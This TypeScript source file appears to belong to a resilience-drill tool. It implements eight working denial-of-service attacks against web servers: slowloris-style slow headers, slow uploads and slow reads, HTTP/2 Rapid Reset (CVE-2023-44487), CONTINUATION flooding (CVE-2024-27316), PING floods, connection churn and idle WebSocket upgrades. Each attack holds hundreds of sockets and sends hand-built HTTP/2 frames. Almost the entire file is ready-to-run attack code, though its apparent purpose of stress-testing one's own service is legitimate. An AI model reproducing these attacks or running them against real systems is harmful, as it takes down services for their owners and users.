import type { Socket } from "node:net";
import type { Attack, Field } from "#drill/attack/attack.ts";
import { open } from "#drill/connection.ts";

const GROUP = 3;
/** Connections that one attack holds or opens in a second. */
const CONNECTIONS = 400;
const TICK_MS = 50;

/** Holds many connections, opens those again that are closed, and does something with each. */
function hold(
  field: Field,
  count: number,
  begin: (socket: Socket, n: number) => void,
  go: (socket: Socket) => void,
  alpn: string[] = ["http/1.1"],
): { stop(): void } {
  const sockets = new Set<Socket>();
  let opened = 0;
  const timer = setInterval(() => {
    // A quarter of them at most in each tick: an attacker's machine has to breathe too.
    for (let i = 0; sockets.size < count && i < count / 4; i++) {
      const n = opened++;
      const socket = open(field.target, field.address(GROUP, n % 64), alpn);
      sockets.add(socket);
      const at = field.now();
      socket.once(field.target.tls ? "secureConnect" : "connect", () => begin(socket, n));
      socket.on("close", () => {
        sockets.delete(socket);
        // Nothing of it reached the site.
        field.told({ at, ms: field.now() - at, outcome: "lost" });
      });
      socket.resume();
    }
    for (const socket of sockets) if (socket.writable && !socket.connecting) go(socket);
  }, TICK_MS);
  return {
    stop() {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

const nothing = (): void => {};

/** An HTTP/2 frame (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const PREFACE = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(4, 0, 0, Buffer.alloc(0)),
]);
const PING = frame(6, 0, 0, Buffer.alloc(8));

/** A GET of "/" in HPACK without a table: literal fields, never indexed. */
function headers(host: string): Buffer {
  const literal = (name: string, value: string): Buffer =>
    Buffer.concat([
      Buffer.from([0x10, name.length]),
      Buffer.from(name),
      Buffer.from([value.length]),
      Buffer.from(value),
    ]);
  return Buffer.concat([
    literal(":method", "GET"),
    literal(":scheme", "http"),
    literal(":path", "/"),
    literal(":authority", host),
  ]);
}

/** Attacks on the protocols themselves: none of them is a whole request. */
export const PROTOCOL_ATTACKS: readonly Attack[] = [
  {
    name: "slow-headers",
    about: "requests whose head never ends, a byte now and then",
    start: (field) =>
      hold(
        field,
        CONNECTIONS,
        (socket) => socket.write(`GET / HTTP/1.1\r\nHost: ${field.target.name}\r\nX-A: `),
        (socket) => {
          if (field.random() < 0.02) socket.write("b");
        },
      ),
  },
  {
    name: "slow-body",
    about: "uploads of a megabyte, a byte now and then",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) =>
          socket.write(
            `POST / HTTP/1.1\r\nHost: ${field.target.name}\r\nContent-Length: 1000000\r\n\r\n`,
          ),
        (socket) => {
          if (field.random() < 0.02) socket.write("b");
        },
      ),
  },
  {
    name: "slow-read",
    about: "downloads whose readers stop reading",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) => {
          const path = field.site.assets[0] ?? "/";
          const request = `GET ${path} HTTP/1.1\r\nHost: ${field.target.name}\r\n\r\n`;
          socket.pause();
          socket.write(request.repeat(20));
        },
        nothing,
      ),
  },
  {
    name: "rapid-reset",
    about: "HTTP/2 streams that are opened and reset at once (CVE-2023-44487)",
    start(field) {
      const block = headers(field.target.name);
      const next = new WeakMap<Socket, number>();
      return hold(
        field,
        20,
        (socket) => {
          next.set(socket, 1);
          socket.write(PREFACE);
        },
        (socket) => {
          const frames: Buffer[] = [];
          let stream = next.get(socket) ?? 1;
          for (let i = 0; i < 50; i++, stream += 2) {
            frames.push(frame(1, 5, stream, block), frame(3, 0, stream, Buffer.from([0, 0, 0, 8])));
          }
          next.set(socket, stream);
          socket.write(Buffer.concat(frames));
        },
        ["h2"],
      );
    },
  },
  {
    name: "continuation",
    about: "HTTP/2 heads that go on in frame after frame (CVE-2024-27316)",
    start: (field) =>
      hold(
        field,
        20,
        (socket) =>
          socket.write(Buffer.concat([PREFACE, frame(1, 0, 1, headers(field.target.name))])),
        (socket) => {
          socket.write(frame(9, 0, 1, Buffer.alloc(2000, 0x10)));
        },
        ["h2"],
      ),
  },
  {
    name: "ping",
    about: "HTTP/2 PING after PING",
    start: (field) =>
      hold(
        field,
        20,
        (socket) => socket.write(PREFACE),
        (socket) => {
          socket.write(Buffer.concat(Array.from({ length: 100 }, () => PING)));
        },
        ["h2"],
      ),
  },
  {
    name: "connections",
    about: "connections (with TLS: whole handshakes) that are closed as soon as they stand",
    start: (field) => hold(field, 40, (socket) => socket.destroy(), nothing),
  },
  {
    name: "websockets",
    about: "connections that ask for a WebSocket and say nothing",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) =>
          socket.write(
            `GET / HTTP/1.1\r\nHost: ${field.target.name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
          ),
        nothing,
      ),
  },
];
